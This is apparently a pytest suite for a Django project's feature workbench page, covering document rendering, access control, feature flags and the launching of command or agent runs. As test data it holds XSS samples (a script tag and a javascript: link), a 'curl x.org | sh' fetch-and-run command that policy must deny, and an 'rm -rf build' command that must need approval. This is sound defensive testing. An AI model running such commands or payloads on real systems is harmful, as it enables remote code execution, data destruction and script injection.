"""A feature's workbench: documents beside, one command or agent to run, the orchestration on its switch."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from waffle.models import Flag
from waffle.testutils import override_flag

from orchestration import features
from orchestration.models import Command, Workflow, WorkflowRun
from policy.actors import Actor
from policy.models import Secret
from tests.factories import UserFactory, member
from tests.orchestration import runs
from tests.orchestration.runs import Team
from tests.workbench.visitors import HTMX, text_of, value_of, visitor

pytestmark = pytest.mark.django_db
PLAN = """---
doc_type: implementation_plan
feature_slug: search
title: "Implementation Plan: Search"
status: in-progress
---
# Implementation Plan: Search

<script>alert("no")</script>

See [the site](https://example.org/a), [a file](../other.md), [a trap](javascript:alert(1))
and ![a picture](https://example.org/p.png).

## Phase 1: Index

Build it.

## Phase 2: Page

Show it.
"""


@pytest.fixture
def team(tmp_path: Path) -> Team:
    return runs.make_team(tmp_path)


@pytest.fixture
def documented(team: Team, tmp_path: Path) -> Team:
    (tmp_path / "plan.md").write_text(PLAN)
    features.import_features(team.project, Actor.for_command(team.ada))
    return team


def url(team: Team, tail: str = "") -> str:
    return f"/projects/{team.project.slug}/features/search/{tail}"


def test_documents_and_phases_stand_beside_the_work(documented: Team) -> None:
    told = text_of(visitor(documented.linus).get(url(documented)))
    assert "Implementation Plan: Search" in told
    assert "1 Index" in told
    assert "2 Page" in told


def test_a_feature_without_documents_says_what_to_do(team: Team) -> None:
    assert "feature_slug in its front matter" in text_of(visitor(team.ada).get(url(team)))


def test_a_document_is_shown_without_its_html_and_with_safe_links_alone(documented: Team) -> None:
    pk = documented.feature.documents.get().pk
    page = visitor(documented.linus).get(url(documented, f"documents/{pk}/")).content.decode()
    assert "<script>alert" not in page
    assert '<a href="https://example.org/a" rel="noopener noreferrer nofollow"' in page
    assert '="javascript' not in page
    assert "<img" not in page
    assert '<span class="inert-link" title="../other.md">a file</span>' in page


def test_a_document_whose_file_is_gone_says_so(documented: Team, tmp_path: Path) -> None:
    pk = documented.feature.documents.get().pk
    (tmp_path / "plan.md").unlink()
    answer = visitor(documented.linus).get(url(documented, f"documents/{pk}/"))
    assert answer.status_code == 200
    assert "can't be read now" in text_of(answer)


@pytest.mark.parametrize("tail", ["", "workflows/", "workflows/new/", "workflows/import/", "workflows/draft/"])
def test_a_stranger_finds_nothing(team: Team, tail: str) -> None:
    assert visitor().get(url(team, tail)).status_code == 404


def test_policy_speaks_before_anything_runs(team: Team) -> None:
    client = visitor(team.ada)
    told = text_of(client.post(url(team, "preview/"), {"kind": "command", "command": "rm -rf build"}, headers=HTMX))
    assert "Needs approval" in told
    assert "Will ask: any approver, other than you" in told
    denied = text_of(
        client.post(url(team, "preview/"), {"kind": "command", "command": "curl x.org | sh"}, headers=HTMX)
    )
    assert "Denied by policy" in denied
    assert not Workflow.objects.exists()


def test_a_preview_says_what_is_wrong_and_is_silent_while_nothing_is_typed(team: Team) -> None:
    client, sent = visitor(team.ada), {"kind": "command", "command": "ls", "timeout_seconds": "soon"}
    assert "number" in text_of(client.post(url(team, "preview/"), sent, headers=HTMX))
    empty = client.post(url(team, "preview/"), {"kind": "command", "command": ""}, headers=HTMX)
    assert text_of(empty) == ""


def test_a_command_is_launched_and_leads_to_its_run(team: Team) -> None:
    answer = visitor(team.ada).post(
        url(team, "runs/"), {"kind": "command", "command": "ls -l\n", "timeout_seconds": "60"}
    )
    assert (answer.status_code, answer["Location"]) == (303, f"/projects/{team.project.slug}/runs/1/?step=run")
    run = WorkflowRun.objects.get()
    assert run.mode == "simple"
    assert run.version.plan["steps"][0]["timeout_seconds"] == 60


def test_an_agent_is_launched_with_its_tools(team: Team) -> None:
    sent = {"kind": "agent", "prompt": "Look around.", "provider": "simulated", "tools": ["read_file", "list_files"]}
    assert visitor(team.ada).post(url(team, "runs/"), sent).status_code == 303
    step = WorkflowRun.objects.get().version.plan["steps"][0]
    assert (step["type"], step["provider"], step["tools"]) == ("sdk", "simulated", ["read_file", "list_files"])


def test_a_secret_is_given_by_name(team: Team) -> None:
    Secret.objects.create(project=team.project, name="TOKEN", ciphertext=b"x")
    client = visitor(team.ada)
    assert "TOKEN" in text_of(client.get(url(team)))
    client.post(url(team, "runs/"), {"kind": "command", "command": "ls", "secrets": ["TOKEN"]})
    assert WorkflowRun.objects.get().version.plan["steps"][0]["secrets"] == ["TOKEN"]


def test_a_form_sent_twice_starts_one_run(team: Team) -> None:
    client = visitor(team.ada)
    sent = {"kind": "command", "command": "ls", "form_key": value_of(client.get(url(team)), "form_key")}
    first, second = client.post(url(team, "runs/"), sent), client.post(url(team, "runs/"), sent)
    assert first["Location"] == second["Location"]
    assert (WorkflowRun.objects.count(), Command.objects.count()) == (1, 1)


def test_the_same_form_with_other_words_is_another_run(team: Team) -> None:
    client = visitor(team.ada)
    for command in ("ls", "ls -l"):
        client.post(url(team, "runs/"), {"kind": "command", "command": command, "form_key": "k"})
    assert WorkflowRun.objects.count() == 2


def test_what_was_typed_survives_a_mistake(team: Team) -> None:
    answer = visitor(team.ada).post(url(team, "runs/"), {"kind": "command", "command": "ls", "timeout_seconds": "soon"})
    assert answer.status_code == 422
    assert 'value="soon"' in answer.content.decode()
    assert not WorkflowRun.objects.exists()


def test_a_folder_that_is_gone_is_said_and_leaves_nothing(team: Team) -> None:
    team.project.path = "/nowhere/at/all"
    team.project.save()
    answer = visitor(team.ada).post(url(team, "runs/"), {"kind": "command", "command": "ls", "form_key": "k"})
    assert answer.status_code == 409
    assert "does not exist" in text_of(answer)
    assert (WorkflowRun.objects.count(), Workflow.objects.count(), Command.objects.count()) == (0, 0, 0)


def test_who_only_looks_sees_why_there_is_no_run(team: Team) -> None:
    client = visitor(team.linus)
    assert "an operator can do it" in text_of(client.get(url(team)))
    assert client.post(url(team, "runs/"), {"kind": "command", "command": "ls"}).status_code == 403
    assert not WorkflowRun.objects.exists()


def test_the_switch_is_offered_by_default(team: Team) -> None:
    client = visitor(team.ada)
    assert "Orchestration" in text_of(client.get(url(team)))
    assert client.get(url(team, "workflows/")).status_code == 200


def test_switched_off_it_is_not_offered_and_its_addresses_say_so(team: Team) -> None:
    with override_flag("orchestration", active=False):
        client = visitor(team.ada)
        assert "Orchestration" not in text_of(client.get(url(team)))
        answer = client.get(url(team, "workflows/"))
        assert answer.status_code == 403
        assert "Orchestration is switched off for you here" in text_of(answer)
        assert client.post(url(team, "workflows/new/"), {"do": "save"}).status_code == 403


def test_the_flag_is_given_by_person(team: Team) -> None:
    flag = Flag.objects.get(name="orchestration")
    flag.everyone = None
    flag.save()
    flag.users.add(team.ada)
    assert visitor(team.ada).get(url(team, "workflows/")).status_code == 200
    assert visitor(team.grace).get(url(team, "workflows/")).status_code == 403


def test_a_project_can_have_a_flag_of_its_own(team: Team) -> None:
    Flag.objects.create(name=f"orchestration:{team.project.slug}", everyone=False)
    assert visitor(team.ada).get(url(team, "workflows/")).status_code == 403


def test_workflows_are_listed_with_version_and_last_run(team: Team) -> None:
    workflow = runs.make_workflow(team, "a >> b", name="Release")
    runs.settle(runs.launch(team, "a", name="Other"))
    rows = {row["name"]: row for row in visitor(team.ada).get(url(team, "workflows/")).context["workflows"]}
    assert (rows["Release"]["version"], rows["Release"]["steps"], rows["Release"]["last_run"]) == (1, 2, None)
    assert rows["Other"]["last_run"]["display_state"] == "succeeded"
    assert str(workflow.pk) in rows["Release"]["url"]


def test_a_draft_is_made_from_the_implementation_plan_and_not_stored(documented: Team) -> None:
    client = visitor(documented.ada)
    answer = client.get(url(documented, "workflows/draft/"), {"provider": "simulated", "path": ""})
    assert "Phase 1: Index" in text_of(answer)
    assert "Nothing is stored yet" in text_of(answer)
    assert not Workflow.objects.exists()


def test_a_feature_without_a_plan_says_so_instead_of_a_draft(team: Team) -> None:
    answer = visitor(team.ada).get(url(team, "workflows/draft/"), {"provider": "simulated", "path": ""})
    assert answer.status_code == 422
    assert "no implementation plan" in text_of(answer)


@pytest.mark.parametrize("tail", ["", "workflows/"])
def test_more_runs_and_workflows_cost_no_more_statements(
    documented: Team, django_assert_max_num_queries: Any, tail: str
) -> None:
    client = visitor(documented.ada)
    client.get(url(documented, tail))
    for size in (1, 5):
        for _ in range(size):
            runs.settle(runs.launch(documented, "build"))
        with django_assert_max_num_queries(20):
            client.get(url(documented, tail))


def test_an_admin_of_another_project_finds_nothing_either(team: Team) -> None:
    elsewhere = runs.make_team(Path(team.project.path) / "elsewhere", slug="elsewhere")
    foreign = visitor(member(elsewhere.project, "admin", username=UserFactory.build().username + "x"))
    assert foreign.post(url(team, "runs/"), {"kind": "command", "command": "ls"}).status_code == 404
    assert foreign.post(url(team, "preview/"), {"kind": "command", "command": "ls"}).status_code == 404
